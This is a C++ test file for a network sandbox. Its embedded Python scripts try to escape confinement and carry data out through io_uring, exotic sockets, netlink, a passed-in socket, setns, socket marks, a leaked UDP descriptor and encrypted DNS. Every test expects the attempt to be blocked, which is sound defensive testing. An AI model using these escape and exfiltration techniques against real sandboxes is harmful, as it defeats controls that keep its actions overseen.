// The attack: the command avoids the calls and sockets that are watched: io_uring, exotic socket
// families, kernel sockets that configure the network, sockets that somebody else opened, replies
// that pretend to be expected, marks and identities that an exemption might be tied to, and network
// namespaces of others. What must stop it: seccomp's table of socket types and calls
// (helpers/confine), descriptors closed at every border (helpers/confine, helpers/token-unset), no
// exemption of any kind in the rules (helpers/firewall), no foreign process in sight
// (helpers/exit-relay), and, behind all that, a namespace without a wire.
#include "attack/attack.hpp"

namespace awf::attack {
namespace {

using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

using SocketAttack = Attack;

INSTANTIATE_TEST_SUITE_P(Callers, SocketAttack, testing::Values(Caller::kRoot, Caller::kRootless),
                         caller_name);

constexpr const char* kSystemCalls = R"(
import ctypes, glob
libc = ctypes.CDLL(None, use_errno=True)
def call(name, function, *words):
    ctypes.set_errno(0)
    result = function(*words)
    print(name, 'DONE' if result >= 0 else errno.errorcode.get(ctypes.get_errno()), flush=True)
    return result
)";

// Layer: seccomp (helpers/confine). A ring would carry out socket, connect and send without a
// system call that a filter sees.
TEST_P(SocketAttack, NET_11_no_ring_for_system_calls_that_nobody_sees) {
  const auto result = run_python(std::string(kPrelude) + kSystemCalls + R"(
parameters = ctypes.create_string_buffer(120)
call('io_uring_setup', libc.syscall, 425, 8, parameters)
call('io_uring_enter', libc.syscall, 426, 3, 1, 0, 0, 0, 0)
call('io_uring_register', libc.syscall, 427, 3, 0, 0, 0)
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_EQ(result.output, "io_uring_setup EPERM\nio_uring_enter EPERM\nio_uring_register EPERM\n");
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Layer: seccomp's table of families (helpers/confine); for the one netlink protocol that programs
// need, no capability to change anything by it.
TEST_P(SocketAttack, NET_12_families_beside_the_internet_and_writes_to_netlink_are_refused) {
  const auto result = run_python(std::string(kPrelude) + R"(
families = {'AX25': 3, 'IPX': 4, 'KEY': 15, 'PACKET': 17, 'RDS': 21, 'PPPOX': 24, 'LLC': 26, 'CAN': 29,
            'TIPC': 30, 'BLUETOOTH': 31, 'RXRPC': 33, 'PHONET': 35, 'ALG': 38, 'NFC': 39, 'VSOCK': 40,
            'KCM': 41, 'QIPCRTR': 42, 'SMC': 43, 'XDP': 44, 'MCTP': 45}
for name, family in families.items():
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        for protocol in (0, 1):
            try:
                socket.socket(family, kind, protocol)
                print('OPENED', name, kind)
            except OSError:
                pass
for protocol in range(1, 32):
    try:
        socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
        print('OPENED netlink', protocol)
    except OSError:
        pass
route = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
def ask(name, kind, body):
    message = struct.pack('=IHHII', 16 + len(body), kind, 5, 1, 0) + body
    route.send(message)
    answer = route.recv(8192)
    print(name, errno.errorcode.get(-struct.unpack_from('=i', answer, 16)[0], 'DONE'))
ask('new link', 16, struct.pack('=BxHiII', 0, 0, 0, 0, 0) + struct.pack('=HH', 20, 18) + struct.pack('=HH6sxx', 10, 1, b'dummy\0'))
ask('link down', 16, struct.pack('=BxHiII', 0, 0, 1, 0, 1))
ask('new route', 24, struct.pack('=BBBBBBBBI', 2, 32, 0, 0, 254, 3, 0, 1, 0) + struct.pack('=HH4s', 8, 1, socket.inet_aton('198.41.30.7')) + struct.pack('=HHi', 8, 4, 1))
ask('new address', 20, struct.pack('=BBBBI', 2, 24, 0, 0, 1) + struct.pack('=HH4s', 8, 2, socket.inet_aton('20.55.0.9')))
print('end')
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_EQ(result.output,
            "new link EPERM\nlink down EPERM\nnew route EPERM\nnew address EPERM\nend\n");
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Layer: descriptors are closed (helpers/confine), abstract names belong to another network
// namespace (helpers/firewall), files of listening sockets are covered (helpers/credential-mask).
TEST_P(SocketAttack, NET_13_nobody_outside_can_pass_a_connected_socket_in) {
  const std::vector<std::string> places = {"/tmp/pass.sock", "/run/pass.sock", "/var/tmp/pass.sock",
                                           std::string(test_world::kWorkspace) + "/pass.sock",
                                           std::string(test_world::kHome) + "/pass.sock"};
  std::string list = "['\\0pass'";
  for (const auto& place : places)
    list += ", '" + place + "'";
  list += "]\n";
  auto passer = world.spawn_in_machine({"/usr/bin/python3", "-u", "-c", "places = " + list + R"(
import os, selectors, socket
outside = socket.create_connection(('198.41.30.7', 80))
chosen = selectors.DefaultSelector()
for place in places:
    s = socket.socket(socket.AF_UNIX)
    s.bind(place)
    s.listen()
    if place[0] != '\0': os.chmod(place, 0o777)
    chosen.register(s, selectors.EVENT_READ)
print('up', flush=True)
while True:
    for key, _ in chosen.select():
        socket.send_fds(key.fileobj.accept()[0], [b'x'], [outside.fileno()])
)"});
  ASSERT_TRUE(passer.wait_for_output("up")) << passer.errors();
  world.forget_packets();
  const auto result = run_python("places = " + list + std::string(kPrelude) + R"(
for place in places:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(5)
        s.connect(place)
        data, fds, _, _ = socket.recv_fds(s, 10, 1)
        os.write(fds[0], b'GET /secret HTTP/1.0\r\n\r\n')
        print('PASSED', place)
    except OSError as e:
        print('refused', errno.errorcode.get(e.errno))
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("PASSED")));
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Layer: descriptors are closed (helpers/confine); rules without connection tracking hold no "reply
// expected" state, and a source port is no reason to pass (helpers/firewall).
TEST_P(SocketAttack,
       NET_15_a_resolvers_socket_of_before_and_answers_that_nobody_asked_for_lead_nowhere) {
  RunOptions options;
  options.caller = GetParam();
  const auto leaked = world.run_in_machine(
      {"/bin/bash", "-c",
       "exec 7<>/dev/udp/192.5.6.30/53; exec /opt/awf/bin/awf --allow-domains example.org -- "
       "'printf secret >&7; echo write=$?; ls -l /proc/self/fd | grep -c socket'"},
      options);
  EXPECT_THAT(leaked.output, testing::MatchesRegex("write=[1-9][0-9]*\n0\n")) << leaked;
  const auto result = run_python(std::string(kPrelude) + R"(
for port in (53, 443, 853):
    for family, target in ((socket.AF_INET, ('192.5.6.30', 40000)), (socket.AF_INET6, ('2001:503:a83e::30', 40000))):
        s = socket.socket(family, socket.SOCK_DGRAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        try:
            s.bind(('', port))
            print('BOUND', port)
        except OSError as e:
            print('bind', errno.errorcode.get(e.errno))
        s.sendto(b'\x12\x34\x81\x80\0\1\0\0\0\0\0\0secret', target)
print('end')
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  EXPECT_THAT(result.output, Not(HasSubstr("BOUND")));
  EXPECT_THAT(world.packets(), IsEmpty());
  EXPECT_THAT(world.dns_queries(), IsEmpty());
}

// Layer: no capability (helpers/confine), and no rule that looks at a mark, a cgroup or a user
// (helpers/firewall): there is no exemption to be had.
TEST_P(SocketAttack, NET_16_no_mark_no_group_and_no_user_opens_anything) {
  const auto result = run_python(std::string(kPrelude) + R"(
def option(s, name, level, number, value):
    try:
        s.setsockopt(level, number, value)
        print(name, 'SET')
    except OSError as e:
        print(name, errno.errorcode.get(e.errno))
for mark in (1, 0x1, 0xff, 0xffffffff):
    s = socket.socket()
    option(s, 'mark', socket.SOL_SOCKET, 36, struct.pack('I', mark))
s = socket.socket()
option(s, 'priority', socket.SOL_SOCKET, 12, struct.pack('i', 7))
option(s, 'transparent', socket.SOL_IP, 19, struct.pack('i', 1))
option(s, 'force', socket.SOL_SOCKET, 33, struct.pack('i', 1 << 24))
for device in (b'eth0\0', b'lo\0'):
    s = socket.socket()
    s.settimeout(5)
    try:
        s.setsockopt(socket.SOL_SOCKET, 25, device)
    except OSError as e:
        print('device', errno.errorcode.get(e.errno))
    try:
        s.connect(('198.41.30.7', 443))
        print('CONNECTED')
    except OSError as e:
        print('connect', errno.errorcode.get(e.errno))
for uid in list(range(61184, 61284)) + [0, 1, 65519, 65534]:
    if uid == os.getuid(): continue
    try:
        os.setresuid(uid, uid, uid)
        print('BECAME', uid)
    except OSError as e:
        pass
for path in ('/sys/fs/cgroup/cgroup.procs', '/sys/fs/cgroup/net_cls/net_cls.classid', '/sys/fs/cgroup/x'):
    try:
        os.mkdir(path) if path.endswith('x') else open(path, 'w').write(str(os.getpid()))
        print('JOINED', path)
    except OSError as e:
        pass
try_tcp('198.41.30.7', 443)
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  for (const char* line : {"mark EPERM", "transparent EPERM", "force EPERM", "priority EPERM"}) {
    EXPECT_THAT(result.output, HasSubstr(line));
  }
  for (const char* success : {"SET", "CONNECTED", "BECAME", "JOINED"}) {
    EXPECT_THAT(result.output, Not(HasSubstr(success)));
  }
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Layer: /proc shows nobody else and PID 1 cannot be traced (helpers/exit-relay); setns is refused
// (helpers/confine); a descriptor of a namespace is closed (helpers/confine).
TEST_P(SocketAttack, NET_24_no_other_network_namespace_can_be_entered) {
  const std::string script = std::string(kPrelude) + kSystemCalls + R"(
places = ['/proc/1/ns/net', '/proc/1/root/proc/1/ns/net', '/proc/self/root/proc/1/ns/net',
          '/proc/self/ns/net', '/run/netns', '/var/run/netns'] + glob.glob('/proc/[0-9]*/ns/*')
for path in places:
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError as e:
        continue
    if call('setns', libc.setns, fd, 0) == 0 and 'self' not in path: print('ENTERED', path)
    os.close(fd)
for number in range(3, 64):
    try:
        print('LEAKED', number, os.readlink(f'/proc/self/fd/{number}'))
    except OSError:
        pass
for pid in (1, 2):
    if call('pidfd_open', libc.syscall, 434, pid, 0) >= 0: call('setns', libc.setns, 3, 0x40000000)
call('unshare', libc.unshare, 0x40000000)
print('pids', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()) == [os.getpid()])
try_tcp('198.41.30.7', 443)
)";
  RunOptions options;
  options.caller = GetParam();
  options.environment = {"SCRIPT=" + script};
  const auto result = world.run_in_machine(
      {"/bin/bash", "-c",
       "exec 9</proc/self/ns/net 8</proc/self/ns/mnt; exec /opt/awf/bin/awf --allow-domains "
       "example.org -- /usr/bin/python3 -c \"$SCRIPT\""},
      options);
  EXPECT_EQ(result.exit_code, 0) << result;
  for (const char* success : {"ENTERED", "LEAKED", "setns DONE", "unshare DONE", "CONNECTED"}) {
    EXPECT_THAT(result.output, Not(HasSubstr(success)));
  }
  EXPECT_THAT(result.output, HasSubstr("setns EPERM"));
  EXPECT_THAT(world.packets(), IsEmpty());
}

// Layer: no wire (helpers/firewall); the policy's review names resolvers (helpers/policy).
TEST_P(SocketAttack, DNS_07_resolvers_over_tls_quic_and_https_are_out_of_reach) {
  const auto result = run_python(std::string(kPrelude) + R"(
mapped = socket.gethostbyname('example.org')
for address in ('1.1.1.1', '8.8.8.8', '192.5.6.30', '2606:4700:4700::1111', mapped):
    if address != mapped: try_tcp(address, 853)
    s = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.connect((address, 853))
    try:
        s.send(b'\xc0' + b'\0' * 1199)
        s.recv(100)
        print('ANSWERED')
    except OSError as e:
        print('quic', errno.errorcode.get(e.errno))
try:  # to an allowed name the interceptor listens, and resets
    s = socket.create_connection((mapped, 853), timeout=5)
    s.sendall(b'\x16\x03\x01')
    print('ANSWERED', s.recv(10))
except OSError as e:
    print('intercepted', errno.errorcode.get(e.errno))
import subprocess
for url in ('https://1.1.1.1/dns-query', 'https://dns.google/dns-query', 'https://cloudflare-dns.com/dns-query'):
    for options in ((), ('--noproxy', '*')):
        r = subprocess.run(['curl', '-sSfk', '-m', '10', *options, url + '?dns=AAAB'], capture_output=True)
        print('curl', 'REACHED' if r.returncode == 0 else 'refused')
)");
  EXPECT_EQ(result.exit_code, 0) << result;
  for (const char* success : {"CONNECTED", "ANSWERED", "REACHED"}) {
    EXPECT_THAT(result.output, Not(HasSubstr(success)));
  }
  EXPECT_THAT(result.output, HasSubstr("intercepted ECONNRESET"));
  EXPECT_THAT(world.packets(), IsEmpty());
  EXPECT_THAT(world.dns_queries(), IsEmpty());
}

}  // namespace
}  // namespace awf::attack
